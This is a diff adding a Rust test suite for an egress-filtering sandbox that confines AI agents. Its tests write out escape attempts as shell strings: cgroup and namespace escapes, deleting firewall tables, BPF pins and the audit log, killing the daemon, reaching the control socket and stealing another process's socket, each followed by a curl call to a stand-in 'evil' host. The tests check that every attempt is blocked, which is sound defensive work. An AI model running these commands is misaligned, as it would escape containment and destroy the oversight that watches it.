@@ -1,0 +1,185 @@
+//! Agents beside each other, and agents that try to leave their own fence.
+
+use crate::{
+    AGENT,
+    attack::{stops, works},
+    fence,
+    places::{ALT, EVIL, OK},
+    policies::COMMON,
+    program,
+};
+use nix::sys::signal::Signal;
+
+#[test]
+fn two_agents_with_different_policies_differ_on_one_destination() {
+    let fence = fence(TWO);
+    let fetch = "curl -sSf -m 5 https://www.{host}/";
+    let flow = "curl -s -m 2 https://{mark}.{host}/";
+    works(&fence.agent("left"), OK, &[fetch]);
+    works(&fence.agent("right"), ALT, &[fetch]);
+    stops(&fence.agent("left"), ALT, &[flow]);
+    stops(&fence.agent("right"), OK, &[flow]);
+}
+
+#[test]
+fn what_one_agent_was_granted_is_of_no_use_to_another() {
+    let fence = fence(TWO);
+    // Looked up and used by `left`, while `right` goes to the very address.
+    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
+    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
+    let borrowed = [
+        "curl -sk -m 2 --resolve {mark}.{host}:443:{v4} https://{mark}.{host}/",
+        "curl -sk -m 2 --resolve {mark}.{host}:443:[{v6}] https://{mark}.{host}/",
+    ];
+    stops(&fence.agent("right"), OK, &borrowed);
+}
+
+#[test]
+fn agents_run_beside_each_other_under_one_name() {
+    let fence = fence(COMMON);
+    let script = "curl -sSf -m 5 https://ok.test/ && read -r; curl -sSf -m 5 https://ok.test/";
+    let mut both = [(); 2].map(|()| fence.agent(AGENT).spawn(&["bash", "-c", script]));
+    for agent in &both {
+        program::poll("the first fetch", || agent.stdout().contains("hello").then_some(()));
+    }
+    for agent in &mut both {
+        use std::io::Write;
+        writeln!(agent.stdin()).expect("the agent reads");
+    }
+    for agent in both {
+        let outcome = agent.finish();
+        assert_eq!(outcome.stdout.matches("hello").count(), 2, "{outcome:#?}");
+    }
+}
+
+#[test]
+fn the_resolver_and_proxy_of_one_agent_serve_no_other() {
+    let fence = fence(TWO);
+    let holder = fence.agent("left").spawn(&["bash", "-c", "curl -s https://www.ok.test/; read -r"]);
+    program::poll("the first fetch", || holder.stdout().contains("hello").then_some(()));
+    let mark = crate::sniffer::mark();
+    for trick in ["every_resolver", "every_proxy"] {
+        let script = format!("/usr/bin/python3 {} {trick} {mark}.ok.test", crate::attack::TRICKS);
+        let (outcome, frames) =
+            crate::attack::violations(fence.lab(), &mark, || fence.agent("right").run(&script));
+        assert!(frames.is_empty(), "`{trick}` leaked {frames:#?}");
+        assert!(!outcome.succeeded(), "`{trick}` was served: {outcome:#?}");
+    }
+}
+
+#[test]
+fn a_child_cgroup_is_fenced_like_its_parent() {
+    let fence = fence(COMMON);
+    // A cgroup that cannot be made is as good: then there is nothing to hide in.
+    let child = "own=$(cut -d: -f3- < <(grep ^0:: /proc/self/cgroup)); \
+                 for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
+                 child=$mount$own/child$$; \
+                 bash -c \"mkdir $child && echo \\$\\$ > $child/cgroup.procs; curl -s -m 2 http://{v4}/{mark}\"; \
+                 rmdir $child; done 2> /dev/null";
+    stops(&fence.agent(AGENT), EVIL, &[child]);
+}
+
+#[test]
+fn no_agent_moves_to_another_cgroup() {
+    let fence = fence(COMMON);
+    let escape = "for mount in $(grep -w cgroup2 /proc/mounts | cut -d' ' -f2); do \
+                  (mount -o remount,rw,bind $mount; umount -l $mount; \
+                  echo 0 > $mount/cgroup.procs; echo $BASHPID > $mount/cgroup.procs) 2> /dev/null; \
+                  curl -s -m 2 http://{v4}/{mark}; done";
+    stops(&fence.agent(AGENT), EVIL, &[&format!("unshare --mount bash -c '{escape}' || ({escape})")]);
+}
+
+#[test]
+fn no_agent_enters_another_namespace() {
+    let fence = fence(COMMON);
+    let escapes = [
+        "nsenter --net=/proc/1/ns/net true; curl -s -m 2 http://{v4}/{mark}",
+        "unshare --user --map-root-user bash -c 'curl -s -m 2 http://{v4}/{mark}'",
+        "unshare --user --map-root-user {trick} packet {v4} {mark}; curl -s -m 2 http://{v4}/{mark}",
+    ];
+    stops(&fence.agent(AGENT), EVIL, &escapes);
+}
+
+#[test]
+fn no_agent_reaches_the_control_socket() {
+    let fence = fence(COMMON);
+    let (egressctl, socket) = (fence.egressctl().display().to_string(), fence.socket().display().to_string());
+    for verb in ["status -q", "reload", "agents", "run -- true", "run --agent other -- true", "tail -n 1"] {
+        let script = format!("{egressctl} --socket {socket} {verb}");
+        let outcome = fence.agent(AGENT).run(&script);
+        assert!(!outcome.succeeded(), "an agent could do `{verb}`: {outcome:#?}");
+    }
+    let script = format!("curl -sSf -m 2 --unix-socket {socket} http://egressd/v1/status");
+    let outcome = fence.agent(AGENT).run(&script);
+    assert!(!outcome.succeeded(), "an agent could talk to the control socket: {outcome:#?}");
+    assert!(fence.ctl(&["status", "-q"]).succeeded(), "others still can");
+}
+
+#[test]
+fn no_agent_removes_what_holds_it() {
+    let fence = fence(COMMON);
+    let (name, folder) = (fence.lab().name(), fence.lab().folder().display().to_string());
+    let vandals = [
+        format!("rm -rf {folder}/run/* {folder}/audit.jsonl"),
+        format!("find {folder}/run/bpf /sys/fs/bpf -path '*{name}*' -delete"),
+        format!("umount -l {folder}/run/bpf {folder}/run"),
+        format!("nft list tables | grep {name} | xargs -r -L 1 nft delete"),
+        "ip link set wan down; ip address flush dev wan".to_owned(),
+    ];
+    for vandal in vandals {
+        let flow = format!("({vandal}) 2> /dev/null; curl -s -m 2 http://{{v4}}/{{mark}}");
+        stops_only_fenced(&fence, &flow);
+        works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
+    }
+}
+
+#[test]
+fn an_agent_that_ends_the_daemon_opens_nothing() {
+    let mut fence = fence(COMMON);
+    for signal in [Signal::SIGTERM, Signal::SIGKILL] {
+        let pid = fence.daemon().pid();
+        let number = signal as i32;
+        let flow = format!(
+            "kill -{number} {pid} 2> /dev/null;              curl -s -m 2 http://{{v4}}/{{mark}}; dig +short +time=1 +tries=1 @{{v4}} {{mark}}.evil.test"
+        );
+        stops_only_fenced(&fence, &flow);
+        // Whether it was hit depends on the uid of the agent.
+        if !fence.ctl(&["status", "-q"]).succeeded() {
+            fence.restart();
+        }
+        works(&fence.agent(AGENT), OK, &["curl -sSf -m 5 https://{host}/"]);
+    }
+}
+
+#[test]
+fn no_agent_takes_a_socket_of_a_process_outside() {
+    let fence = fence(COMMON);
+    // Without privileges, so that it is not protected by having more of them than the agent.
+    let hold = "exec 7<> /dev/udp/10.99.0.66/9000; echo ready; read -r";
+    let mut command =
+        fence.lab().command(&["setpriv", "--bounding-set=-all", "--inh-caps=-all", "bash", "-c", hold]);
+    command.stdin(std::process::Stdio::piped());
+    let holder = program::Program::start(command);
+    program::poll("the holder", || holder.stdout().contains("ready").then_some(()));
+    stops(&fence.agent(AGENT), EVIL, &[&format!("{{trick}} steal {} 7 {{mark}}", holder.pid())]);
+}
+
+/// Like [`stops`], for what would do harm if it were run without the fence.
+fn stops_only_fenced(fence: &crate::fence::Fence, trick: &str) {
+    let mark = crate::sniffer::mark();
+    let script = trick.replace("{v4}", &EVIL.v4.to_string()).replace("{mark}", &mark);
+    let run = || fence.agent(AGENT).run(&script);
+    let (outcome, frames) = crate::attack::violations(fence.lab(), &mark, run);
+    assert!(frames.is_empty(), "`{trick}` opened the fence: {frames:#?}, {outcome:#?}");
+}
+
+const TWO: &str = "
+version: 1
+agents:
+  left:
+    rules:
+      - {host: '*.ok.test', private: true}
+  right:
+    rules:
+      - {host: '*.alt.test', private: true}
+";
